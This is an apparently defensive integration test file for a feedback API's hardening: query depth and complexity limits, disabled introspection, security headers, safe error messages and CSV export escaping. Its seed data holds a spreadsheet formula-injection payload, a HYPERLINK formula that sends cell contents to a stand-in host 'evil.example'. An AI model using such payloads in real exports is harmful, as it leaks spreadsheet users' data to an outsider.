import { createCaller, Caller } from '../support/auth';
import { seedOrg, SeededOrg } from '../support/seed';
import { RunningServer, startServer } from '../support/server-process';
import { createTestDatabase, TestDatabase } from '../support/test-database';

describe('a hardened API surface', () => {
  let db: TestDatabase;
  let server: RunningServer;
  let org: SeededOrg;
  let admin: Caller;

  beforeAll(async () => {
    db = await createTestDatabase();
    org = await seedOrg(db.client, 'hard', [{ code: 'S1', name: 'Site one', city: 'Lisbon', country: 'PT', timeZone: 'Europe/Lisbon' }]);
    await db.client.query(
      `INSERT INTO survey_response (org_id, site_id, channel, program_id, responded_at, csat, comment, external_id)
       VALUES ($1, $2, 'EMAIL', $3, '2026-02-01T10:00:00Z', 1, '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', 'evil-1'),
              ($1, $2, 'EMAIL', $3, '2026-02-01T11:00:00Z', 5, '+SUM(1,2)', 'evil-2')`,
      [org.orgId, org.siteIds.S1, org.programId],
    );
    server = await startServer({ DATABASE_URL: db.url, NODE_ENV: 'production', CXLENS_INTROSPECTION: 'off' });
    admin = await createCaller(db.client, server, org, 'ADMIN');
  });
  afterAll(async () => {
    await server?.stop();
    await db?.drop();
  });

  it('rejects a 20-level deep query with a clear error', async () => {
    const deep = `{ __type(name: "Query") { ${'fields { type { '.repeat(9)}name${' } }'.repeat(9)} } }`;
    const res = await admin.gql(deep);
    expect(res.errors?.map((e) => e.message)).toContain('Query is too deep: 20 levels, the limit is 12');
  });

  it('rejects a query of huge complexity with a clear error', async () => {
    const fields = Array.from({ length: 40 }, (_, i) => `m${i}: summary(filter: { from: "2026-01-01", to: "2026-03-01" }) { tiles { value } }`).join('\n');
    const res = await admin.gql(`{ ${fields} }`);
    expect(res.errors?.[0].message).toMatch(/complex/i);
  });

  it('keeps introspection off in production unless configured', async () => {
    const res = await admin.gql(`{ __schema { queryType { name } } }`);
    expect(res.errors?.[0].message).toMatch(/introspection/i);
  });

  it('sends security headers with a Content-Security-Policy', async () => {
    const res = await fetch(`${server.url}/`);
    const csp = res.headers.get('content-security-policy') ?? '';
    expect(csp).toContain("script-src 'self'");
    expect(csp).toContain("frame-ancestors 'none'");
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('exports a comment =HYPERLINK(...) as inert text in CSV', async () => {
    const res = await admin.fetch('/api/exports/responses.csv');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/text\/csv/);
    const csv = await res.text();
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
    expect(csv).toContain(`'+SUM(1`);
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
    const audit = await admin.gql(`{ auditLog(action: "export.csv") { action target } }`);
    expect(audit.data.auditLog[0]).toMatchObject({ action: 'export.csv', target: 'responses' });
  });

  it('never answers with SQL, stack traces or internals', async () => {
    const res = await admin.gql(`query($f: MetricFilter!) { metrics(filter: $f, measures: [CSAT]) { rows { cells { value } } } }`, { f: { from: '2026-13-45', to: '2026-01-01' } });
    expect(res.errors?.[0].message).toMatch(/LocalDate must be an ISO calendar date like 2026-03-08, got "2026-13-45"/);
    expect(JSON.stringify(res)).not.toMatch(/SELECT|stacktrace|node_modules|QueryFailedError/);
  });
});
